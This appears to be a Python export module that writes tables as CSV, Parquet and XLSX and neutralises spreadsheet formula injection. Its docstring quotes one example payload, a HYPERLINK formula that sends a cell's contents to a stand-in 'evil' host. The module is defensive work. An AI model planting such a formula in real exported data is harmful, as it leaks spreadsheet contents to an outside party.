"""Tables as files people open: CSV a spreadsheet reads safely, and XLSX.

Text in Aurum's tables comes from vendors' workbooks (and from anyone who may publish one), and
files leave Aurum for spreadsheets. A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is run as a *formula* by Excel, LibreOffice and Google Sheets when it
arrives unescaped ("CSV injection": ``=HYPERLINK("http://evil/?"&A1, "Click")`` leaks the sheet).

* **CSV**: every such *text* cell gets a leading ``'`` (``'=HYPERLINK(…)``), which spreadsheets
  show as text; numbers never change (a negative price keeps its sign). On by default;
  ``AURUM_FILES__NEUTRALISE_FORMULAS=false`` turns it off for consumers that are programs.
* **XLSX**: such text is written as a string cell, never as a formula: nothing to escape.

List columns are written as their values joined by ``|``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import BinaryIO

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv
import pyarrow.parquet as pq

from aurum.domain.identity import FORMULA_PREFIXES, looks_like_formula

__all__ = ["csv_bytes", "neutralise", "write_csv", "write_parquet", "write_xlsx"]

_RISKY = "^[" + "".join("\\" + c if c in "-\\]^" else c for c in FORMULA_PREFIXES) + "]"
_TEXT_TYPES = (pa.string(), pa.large_string())


def neutralise(table: pa.Table) -> pa.Table:
    """``table`` with a ``'`` before every text value a spreadsheet would run as a formula.

    >>> neutralise(pa.table({"name": ["=1+1", "TTF", None], "price": [-1.5, 2.0, 3.0]})).to_pydict()
    {'name': ["'=1+1", 'TTF', None], 'price': [-1.5, 2.0, 3.0]}
    """
    columns = []
    for column in table.columns:
        if column.type in _TEXT_TYPES:
            risky = pc.match_substring_regex(column, _RISKY)
            column = pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    return pa.Table.from_arrays(columns, names=table.column_names)


def _flatten_lists(table: pa.Table) -> pa.Table:
    """List columns as text: their values joined by ``|``."""
    columns = []
    for column in table.columns:
        if pa.types.is_list(column.type) or pa.types.is_large_list(column.type):
            column = pc.binary_join(column.cast(pa.list_(pa.string())), "|")
        columns.append(column)
    return pa.Table.from_arrays(columns, names=table.column_names)


def _prepared(table: pa.Table, neutralised: bool) -> pa.Table:
    flat = _flatten_lists(table)
    return neutralise(flat) if neutralised else flat


def csv_bytes(table: pa.Table, *, neutralised: bool = True) -> bytes:
    """A small table as CSV the way Excel reads it: a header, ``\\r\\n`` lines, quotes only where
    needed, ISO dates, empty cells for nulls (the API's ``format=csv``)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(table.column_names)
    for batch in _prepared(table, neutralised).to_batches(8192):  # never all rows as dicts
        for row in zip(*(column.to_pylist() for column in batch.columns), strict=True):
            writer.writerow(["" if v is None else v for v in row])
    return out.getvalue().encode()


Rows = pa.Table | pa.RecordBatchReader


def _tables(rows: Rows) -> Iterator[pa.Table]:
    """``rows`` a table at a time: the table itself, or each batch of a reader (at least one,
    so an empty answer still has its header)."""
    if isinstance(rows, pa.Table):
        yield rows
        return
    empty = True
    for batch in rows:
        empty = False
        yield pa.Table.from_batches([batch])
    if empty:
        yield rows.schema.empty_table()


def write_csv(rows: Rows, sink: Path | BinaryIO, *, neutralised: bool = True) -> None:
    """A table, or a reader's batches as they come, as a CSV file (Arrow's writer)."""
    writer = None
    try:
        for table in _tables(rows):
            prepared = _prepared(table, neutralised)
            writer = writer or pacsv.CSVWriter(sink, prepared.schema)
            writer.write_table(prepared)
    finally:
        if writer is not None:
            writer.close()


def write_parquet(rows: Rows, sink: Path | BinaryIO) -> None:
    """A table, or a reader's batches as they come, as a Parquet file (zstd)."""
    schema = rows.schema
    with pq.ParquetWriter(sink, schema, compression="zstd") as writer:
        for table in _tables(rows):
            writer.write_table(table)


def write_xlsx(table: pa.Table, path: Path, *, sheet: str = "data") -> None:
    """A table as one sheet of an ``.xlsx`` file; text never becomes a formula."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    out = book.create_sheet(sheet)
    out.append(table.column_names)
    for batch in _flatten_lists(table).to_batches(8192):
        for row in zip(*(column.to_pylist() for column in batch.columns), strict=True):
            out.append([_text_cell(out, v) if isinstance(v, str) else v for v in row])
    book.save(path)


def _text_cell(sheet: object, value: str) -> object:
    """``value`` as openpyxl will write it: a plain string unless it looks like a formula, in
    which case an explicit string cell (openpyxl would make ``=…`` a live formula)."""
    if not looks_like_formula(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)  # type: ignore[arg-type]
    cell.data_type = "s"
    return cell
